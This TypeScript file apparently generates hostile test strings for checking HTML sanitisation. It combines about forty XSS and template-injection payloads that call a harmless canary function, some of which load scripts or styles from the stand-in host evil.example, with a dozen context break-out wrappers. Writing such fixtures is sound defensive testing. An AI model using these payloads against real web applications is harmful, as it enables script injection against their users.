/** Calls the canary, in every way in which markup, an address or a template could. */
const PAYLOADS = [
  '<script>canary()</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=canary()>',
  '<img src="javascript:canary()">',
  '<svg onload=canary()>',
  '<svg><script href="data:text/javascript,canary()"></script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.canary()</script>">',
  '<iframe src="javascript:parent.canary()">',
  '<object data="data:text/html,<script>canary()</script>">',
  '<embed src="javascript:canary()">',
  '<a href="javascript:canary()">click</a>',
  '<a href="java&#9;script:canary()">click</a>',
  '<form action="javascript:canary()"><button>x</button></form>',
  '<input autofocus onfocus=canary()>',
  '<details open ontoggle=canary()>',
  '<video><source onerror=canary()></video>',
  '<body onload=canary()>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
  '<base href="//evil.example/">',
  '<math><mtext><img src onerror=canary()></mtext></math>',
  '<template><img src onerror=canary()></template>',
  '<noscript><p title="</noscript><img src onerror=canary()>">',
  '<div style="background:url(//evil.example/x.png)">x</div>',
  'javascript:canary()',
  'data:text/html,<script>canary()</script>',
  '${canary()}',
  '{{canary()}}',
  "{{constructor.constructor('canary()')()}}",
  '#{canary()}',
  '<%= canary() %>',
  '__proto__',
  'constructor',
  '[object Object]',
  '&lt;script&gt;canary()&lt;/script&gt;',
  '%3Cscript%3Ecanary()%3C/script%3E',
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  'مرحبا <script>canary()</script> שלום',
] as const;

/** Breaks out of places in which a text may stand. */
const FRAMES = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `\`>${text}`,
  (text: string) => `</title>${text}`,
  (text: string) => `</script>${text}`,
  (text: string) => `</textarea>${text}`,
  (text: string) => `-->${text}<!--`,
  (text: string) => `]]>${text}`,
  (text: string) => `x" onmouseover="canary()" y="${text}`,
  (text: string) => `x' autofocus onfocus='canary()' y='${text}`,
  (text: string) => `\\"};${text}//`,
  (text: string) => `😀${text}é`,
] as const;

/** So many texts that would run something where they are taken for markup; each is one line. */
export function hostileTexts(count: number): string[] {
  const all = FRAMES.flatMap((frame) => PAYLOADS.map((payload) => frame(payload)));
  if (all.length < count) throw new Error(`There are ${all.length} only.`);
  return all.slice(0, count);
}
